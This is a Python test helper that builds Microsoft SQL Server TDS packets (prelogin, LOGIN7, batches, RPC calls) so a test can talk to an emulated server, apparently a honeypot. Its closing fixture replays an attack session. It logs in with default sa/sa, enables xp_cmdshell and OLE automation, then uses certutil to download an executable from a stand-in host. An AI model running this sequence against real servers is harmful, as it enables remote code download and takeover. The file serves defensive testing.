"""As much of TDS as a test needs to talk to the room itself."""

from __future__ import annotations

import struct

from eudaemon.testing.script import Table

PRELOGIN = bytes.fromhex("00001a000601002000010200210001030022000404002600010000000000000000000000000000000000ff")
HEADERS = struct.pack("<IIHQI", 22, 18, 2, 0, 1)


def packets(kind: int, body: bytes, size: int = 4096) -> bytes:
    """Return a message as packets."""
    room = size - 8
    parts = [body[at : at + room] for at in range(0, len(body), room)] or [b""]
    return b"".join(
        struct.pack(">BBHHBB", kind, int(number == len(parts)), len(part) + 8, 0, number & 0xFF, 0) + part
        for number, part in enumerate(parts, 1)
    )


def hidden(password: str) -> bytes:
    """Return a password as LOGIN7 hides it."""
    return bytes((((byte << 4) | (byte >> 4)) & 0xFF) ^ 0xA5 for byte in password.encode("utf-16-le"))


def login(
    user: str = "sa", password: str = "sa", *, database: str = "", version: int = 0x74000004, flags: int = 0
) -> bytes:
    """Return the packets of a LOGIN7."""
    words = [b"BOT".decode(), user, password, "OSQL-32", "srv", "", "ODBC", "", database]
    head, data, at = b"", b"", 94
    for number, word in enumerate(words):
        raw = hidden(word) if number == 2 else word.encode("utf-16-le")
        head += struct.pack("<HH", at + len(data), len(word))
        data += raw
    fixed = struct.pack("<IIIIIIBBBBII", 0, version, 4096, 7, 100, 0, 0, flags, 0, 0, 0, 0x409)
    body = fixed + head + b"\0" * (94 - 36 - len(head)) + data
    return packets(0x10, struct.pack("<I", len(body)) + body[4:])


def batch(sql: bytes, *, headers: bytes = HEADERS) -> bytes:
    """Return the packets of a batch."""
    return packets(1, headers + sql.decode().encode("utf-16-le"))


def nvarchar(name: str, value: bytes) -> bytes:
    """Return a parameter of a call, as long as it may be."""
    raw = value.decode().encode("utf-16-le")
    return (bytes((len(name),)) + name.encode("utf-16-le") + b"\0\xe7\xff\xff" + bytes(5)
            + struct.pack("<QI", len(raw), len(raw)) + raw + bytes(4))  # fmt: skip


def varbinary(name: str, value: bytes) -> bytes:
    """Return a parameter of bytes."""
    chunk = struct.pack("<I", len(value)) + value if value else b""
    return (
        bytes((len(name),))
        + name.encode("utf-16-le")
        + b"\0\xa5\xff\xff"
        + struct.pack("<Q", len(value))
        + chunk
        + bytes(4)
    )


def call(number: int, *parameters: bytes) -> bytes:
    """Return the packets of an RPC by its number."""
    return packets(3, HEADERS + struct.pack("<HHH", 0xFFFF, number, 0) + b"".join(parameters))


def body_of(data: bytes) -> bytes:
    """Return the tokens of an answer, its packets taken away."""
    out, at = b"", 0
    while at < len(data):
        size = int.from_bytes(data[at + 2 : at + 4], "big")
        out += data[at + 8 : at + size]
        at += size
    return out


def texts(data: bytes) -> str:
    """Return an answer as text: what is UTF-16 in it can be looked for."""
    body = body_of(data)
    return body.decode("utf-16-le", "replace") + body[1:].decode("utf-16-le", "replace")


class Client:
    """A client that has logged in."""

    def __init__(self, table: Table) -> None:
        self.table = table
        table.say(packets(0x12, PRELOGIN))
        assert b"\xad" in body_of(table.say(login()))

    def do(self, sql: bytes) -> str:
        return self.send(batch(sql))

    def send(self, data: bytes) -> str:
        before = len(self.table.sent)
        for at in range(0, len(data), 65_537):
            self.table.say(data[at : at + 65_537])
        return texts(self.table.sent[before:])


SWITCHED_ON = (b"exec sp_configure 'show advanced options', 1 reconfigure exec sp_configure 'xp_cmdshell', 1 "
               b"reconfigure "
               b"exec sp_configure 'Ole Automation Procedures', 1 reconfigure")  # fmt: skip


def opening() -> list[bytes]:
    """Return what leads through a session, in pieces that end where a new stage begins."""
    return [packets(0x12, PRELOGIN), login()[:20], login()[20:], batch(SWITCHED_ON)[:5], batch(SWITCHED_ON)[5:33],
            batch(SWITCHED_ON)[33:], batch(b"declare @a int if 1 = 1 begin select 1 end"),
            call(10, nvarchar("", b"select @a"), nvarchar("", b"@a int"), nvarchar("@a", b"1")),
            batch(b"exec xp_cmdshell 'certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe'")]  # fmt: skip
